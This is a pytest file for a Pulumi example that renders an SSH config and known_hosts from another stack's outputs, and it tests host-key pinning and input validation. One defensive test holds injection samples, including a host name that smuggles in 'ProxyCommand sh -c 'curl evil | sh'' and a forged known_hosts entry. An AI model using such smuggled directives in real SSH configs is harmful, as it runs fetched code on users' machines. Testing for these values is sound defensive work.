"""The StackReference example: it reads both stack shapes and writes a config OpenSSH accepts.

The dev server stack's outputs are never written by hand here: each test runs the real program
(`tests/program.py`) for a single server or a fleet and serves exactly what it exported to the
example's StackReference, the way the engine does (`outputs`, `secretOutputNames`). The machine's
host key (what the deployment's first step reads from the machine) is a real ed25519 key made by
ssh-keygen, so the rendered files are checked by OpenSSH itself: `ssh -G -F <file> <host>` and
`ssh-keygen -F <alias> -f <known_hosts>`.
"""

from __future__ import annotations

import asyncio
import runpy
import shutil
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pulumi
import pytest

from tests import program as devserver_program
from tests.sshkeys import ed25519_keypair

EXAMPLE_DIR = Path(__file__).resolve().parents[2] / "examples" / "ssh-config"
PROJECT = "devserver-ssh-config"
DEVSERVER_STACK = "organization/devserver/dev"
FLEET = [
    {"name": "alice", "user": "alice", "githubUser": "alice-example"},
    {"name": "bob", "user": "bob", "githubUser": "bob-example", "preset": "graviton"},
]
needs_openssh = pytest.mark.skipif(
    not (shutil.which("ssh") and shutil.which("ssh-keygen")),
    reason="OpenSSH client (Debian openssh-client, installed by scripts/test) is not on PATH",
)


@pytest.fixture
def ssh_config_module(monkeypatch: pytest.MonkeyPatch) -> Any:
    monkeypatch.syspath_prepend(str(EXAMPLE_DIR))
    monkeypatch.delitem(sys.modules, "ssh_config", raising=False)
    import ssh_config

    return ssh_config


StackOutputs = Callable[..., dict[str, Any]]


@pytest.fixture
def devserver_outputs(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Iterator[StackOutputs]:
    """Run the real dev server program; return its stack outputs, with real machine host keys."""
    keys: dict[str, str] = {}
    lock = threading.Lock()  # the mocks register resources from several threads

    def host_key(command_name: str) -> str:
        with lock:
            if command_name in keys:
                return keys[command_name]
            path = tmp_path / f"hostkey-{command_name}"
            keys[command_name] = ed25519_keypair(path, "root@devserver")
            return keys[command_name]

    original = devserver_program.FakeAws.new_resource

    def new_resource(
        self: devserver_program.FakeAws, args: pulumi.runtime.MockResourceArgs
    ) -> tuple[str, dict[str, Any]]:
        rid, state = original(self, args)
        if args.typ == "command:remote:Command" and args.name.endswith("-host-key"):
            # What `cat /etc/ssh/ssh_host_ed25519_key.pub` prints on a fresh machine.
            state = {**state, "stdout": host_key(args.name)}
        return rid, state

    monkeypatch.setattr(devserver_program.FakeAws, "new_resource", new_resource)

    def run(overrides: dict[str, Any] | None = None) -> dict[str, Any]:
        devserver_program.reset_runtime()
        try:
            done = devserver_program.run_program(overrides)
        finally:
            devserver_program.reset_runtime()
        assert not done.secret_outputs, f"dev server stack: secret outputs {done.secret_outputs}"
        return done.outputs

    yield run


class DevserverStackMocks(pulumi.runtime.Mocks):
    """Serves one dev server stack's outputs to StackReference; records every resource."""

    def __init__(self, outputs: dict[str, Any]) -> None:
        self.outputs = outputs
        self.resources: list[pulumi.runtime.MockResourceArgs] = []

    def new_resource(self, args: pulumi.runtime.MockResourceArgs) -> tuple[str, dict[str, Any]]:
        self.resources.append(args)
        if args.typ == "pulumi:pulumi:StackReference":
            if args.inputs["name"] != DEVSERVER_STACK:
                raise LookupError(f"no stack {args.inputs['name']!r}")
            state = {"name": args.inputs["name"], "outputs": self.outputs, "secretOutputNames": []}
            return args.inputs["name"], state
        if args.typ == "aws:route53/record:Record":
            return f"{args.inputs['zoneId']}_{args.inputs['name']}_CNAME", {
                **args.inputs,
                "fqdn": args.inputs["name"],
            }
        return f"{args.name}-id", dict(args.inputs)

    def call(self, args: pulumi.runtime.MockCallArgs) -> tuple[dict[str, Any], None]:
        raise NotImplementedError(f"the example calls no functions, got {args.token}")


RunExample = Callable[[dict[str, str], dict[str, Any]], tuple[DevserverStackMocks, dict[str, Any]]]


@pytest.fixture
def run_example(monkeypatch: pytest.MonkeyPatch) -> Iterator[RunExample]:
    """Run the example program under fresh mocks and config; return the mocks and its exports."""
    monkeypatch.syspath_prepend(str(EXAMPLE_DIR))
    monkeypatch.delitem(sys.modules, "ssh_config", raising=False)

    def run(
        config: dict[str, str], outputs: dict[str, Any]
    ) -> tuple[DevserverStackMocks, dict[str, Any]]:
        mocks = DevserverStackMocks(outputs)
        asyncio.set_event_loop(asyncio.new_event_loop())
        pulumi.runtime.settings.reset_options(project=PROJECT, stack="test")
        pulumi.runtime.set_mocks(mocks, project=PROJECT, stack="test", preview=False)
        pulumi.runtime.set_all_config({f"{PROJECT}:{key}": value for key, value in config.items()})
        runpy.run_path(str(EXAMPLE_DIR / "__main__.py"), run_name="__main__")
        settle()
        root = pulumi.runtime.get_root_resource()
        assert root is not None
        return mocks, root.outputs  # type: ignore[attr-defined]

    yield run
    # Leave no mocks, config or root stack behind for whichever test runs next.
    pulumi.runtime.set_all_config({})
    pulumi.runtime.settings.reset_options()
    # pytest-asyncio unsets the thread's loop after an async test; sync Pulumi tests need one.
    asyncio.set_event_loop(asyncio.new_event_loop())


def settle() -> None:
    """Run the loop until every registration and apply the program started has finished."""
    loop = asyncio.get_event_loop()
    for _ in range(50):
        pending = [task for task in asyncio.all_tasks(loop) if not task.done()]
        if not pending:
            return
        loop.run_until_complete(asyncio.wait(pending, timeout=10))
    raise AssertionError("the example program never settled")


def resolve(output: Any) -> Any:
    return asyncio.get_event_loop().run_until_complete(output.future())


def ssh_g(config_file: Path, host: str) -> dict[str, str]:
    """What OpenSSH resolves for a host from this config file alone (`ssh -G`)."""
    done = subprocess.run(
        ["ssh", "-G", "-F", str(config_file), host],
        capture_output=True,
        text=True,
        timeout=10,
        check=False,
    )
    assert done.returncode == 0, f"ssh -G rejected the rendered config for {host}: {done.stderr}"
    return dict(line.split(" ", 1) for line in done.stdout.splitlines() if " " in line)


def write_files(tmp_path: Path, exports: dict[str, Any]) -> tuple[Path, Path]:
    config_file, known_hosts = tmp_path / "ssh_config", tmp_path / "known_hosts"
    config_file.write_text(resolve(exports["sshConfig"]))
    known_hosts.write_text(resolve(exports["knownHosts"]))
    return config_file, known_hosts


def assert_pinned(config_file: Path, known_hosts: Path, host: str, server: dict[str, Any]) -> None:
    """OpenSSH connects `host` to the server as its user and accepts only the pinned host key."""
    resolved = ssh_g(config_file, host)
    assert resolved["hostname"] == server["publicDns"], f"{host}: HostName"
    assert resolved["user"] == server["user"], f"{host}: User"
    assert resolved["hostkeyalias"] == server["instanceId"], f"{host}: HostKeyAlias"
    assert resolved["userknownhostsfile"] == str(known_hosts), f"{host}: UserKnownHostsFile"
    assert resolved["stricthostkeychecking"] == "true", f"{host}: StrictHostKeyChecking"
    assert resolved["forwardagent"] == "no", f"{host}: ForwardAgent"
    found = subprocess.run(
        ["ssh-keygen", "-F", server["instanceId"], "-f", str(known_hosts)],
        capture_output=True,
        text=True,
        timeout=10,
        check=False,
    )
    key_type, key_blob = server["sshHostKey"].split()[:2]
    assert found.returncode == 0, f"{host}: known_hosts has no entry OpenSSH finds"
    assert f"{server['instanceId']} {key_type} {key_blob}" in found.stdout, (
        f"{host}: known_hosts pins another key than the stack's sshHostKey"
    )


# --- Both stack shapes, from the real program's outputs -----------------------------------------


@needs_openssh
def test_a_single_server_stack_gets_one_host_with_its_pinned_host_key(
    devserver_outputs: StackOutputs, run_example: RunExample, tmp_path: Path
) -> None:
    outputs = devserver_outputs()
    assert "publicDns" in outputs and list(outputs["servers"]) == ["devserver"]
    known_hosts = tmp_path / "known_hosts"
    config = {
        "devserverStack": DEVSERVER_STACK,
        "hostAlias": "alice",
        "knownHostsFile": str(known_hosts),
    }

    mocks, exports = run_example(config, outputs)
    config_file, _ = write_files(tmp_path, exports)

    text = config_file.read_text()
    assert [line for line in text.splitlines() if line.startswith("Host ")] == ["Host alice"], (
        "a single-server stack must get exactly one Host entry"
    )
    assert_pinned(config_file, known_hosts, "alice", outputs)
    assert len(known_hosts.read_text().splitlines()) == 1
    references = [r for r in mocks.resources if r.typ == "pulumi:pulumi:StackReference"]
    assert [r.inputs["name"] for r in references] == [DEVSERVER_STACK]
    assert set(exports) == {"sshConfig", "knownHosts"}, "no DNS record unless a zone is configured"


@needs_openssh
def test_a_fleet_stack_exporting_only_servers_gets_one_pinned_host_per_server(
    devserver_outputs: StackOutputs, run_example: RunExample, tmp_path: Path
) -> None:
    outputs = devserver_outputs({"devserver:servers": FLEET})
    assert set(outputs) == {"servers", "estimatedCost"}, "a fleet: servers and its total cost"
    known_hosts = tmp_path / "known_hosts"
    config = {"devserverStack": DEVSERVER_STACK, "knownHostsFile": str(known_hosts)}

    _, exports = run_example(config, outputs)
    config_file, _ = write_files(tmp_path, exports)

    hosts = [line for line in config_file.read_text().splitlines() if line.startswith("Host ")]
    assert hosts == ["Host devserver-alice", "Host devserver-bob"]
    for name in ("alice", "bob"):
        assert_pinned(config_file, known_hosts, f"devserver-{name}", outputs["servers"][name])
    assert outputs["servers"]["alice"]["sshHostKey"] != outputs["servers"]["bob"]["sshHostKey"]
    assert len(known_hosts.read_text().splitlines()) == 2


@needs_openssh
def test_without_a_deployment_no_host_key_is_pinned_and_ssh_asks_as_usual(
    devserver_outputs: StackOutputs, run_example: RunExample, tmp_path: Path
) -> None:
    outputs = devserver_outputs({"devserver:deploy": False})
    assert outputs["servers"]["devserver"]["sshHostKey"] is None

    _, exports = run_example({"devserverStack": DEVSERVER_STACK}, outputs)
    config_file, known_hosts = write_files(tmp_path, exports)

    resolved = ssh_g(config_file, "devserver")
    assert resolved["hostname"] == outputs["publicDns"]
    assert resolved["stricthostkeychecking"] != "true", "nothing pinned: no strict checking"
    assert known_hosts.read_text() == ""


def test_a_stable_dns_name_points_at_the_single_server(
    devserver_outputs: StackOutputs, run_example: RunExample
) -> None:
    outputs = devserver_outputs()
    config = {
        "devserverStack": DEVSERVER_STACK,
        "dnsZoneId": "Z0123456789ABCDEFGHIJ",
        "dnsName": "alice.dev.example.com",
    }

    mocks, exports = run_example(config, outputs)

    records = [r for r in mocks.resources if r.typ == "aws:route53/record:Record"]
    assert len(records) == 1
    assert records[0].inputs["type"] == "CNAME"
    assert records[0].inputs["records"] == [outputs["publicDns"]]
    assert resolve(exports["dnsName"]) == "alice.dev.example.com"
    assert "    HostName alice.dev.example.com" in resolve(exports["sshConfig"]).splitlines()


def test_a_dns_name_for_a_fleet_is_refused(
    devserver_outputs: StackOutputs, ssh_config_module: Any
) -> None:
    servers = devserver_outputs({"devserver:servers": FLEET})["servers"]
    with pytest.raises(ssh_config_module.SshConfigError, match="dnsName names one server"):
        ssh_config_module.render(servers, "dev", host_name="alice.dev.example.com")


# A stopped instance has an empty publicDns: say so instead of writing `HostName ` to the file.
def test_a_server_without_public_name_is_reported_by_server_and_output(
    devserver_outputs: StackOutputs, ssh_config_module: Any
) -> None:
    servers = devserver_outputs({"devserver:servers": FLEET})["servers"]
    servers["bob"]["publicDns"] = ""
    with pytest.raises(ssh_config_module.SshConfigError, match="'bob' has no 'publicDns'"):
        ssh_config_module.render(servers, "dev")


# --- Values from another stack are checked before they reach ~/.ssh/config ---------------------


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("host_name", "example.com\n    ProxyCommand sh -c 'curl evil | sh'"),
        ("user", "alice bob"),
        ("alias", "dev#comment"),
        ("host_name", ""),
        ("known_hosts_file", "/tmp/k\n    ProxyCommand x"),
    ],
)
def test_values_that_would_inject_ssh_directives_are_refused(
    ssh_config_module: Any, field: str, value: str
) -> None:
    args = {"alias": "devserver", "host_name": "ec2-198-51-100-7.example", "user": "alice"}
    with pytest.raises(ssh_config_module.SshConfigError, match="must be a plain host"):
        ssh_config_module.host_block(**{**args, field: value})


def test_a_host_key_that_is_not_a_public_key_is_refused(ssh_config_module: Any) -> None:
    with pytest.raises(ssh_config_module.SshConfigError, match="not an OpenSSH public key"):
        ssh_config_module.known_hosts_line("i-0123", "ssh-ed25519 AAAA\nevil.example ssh-rsa AAAA")
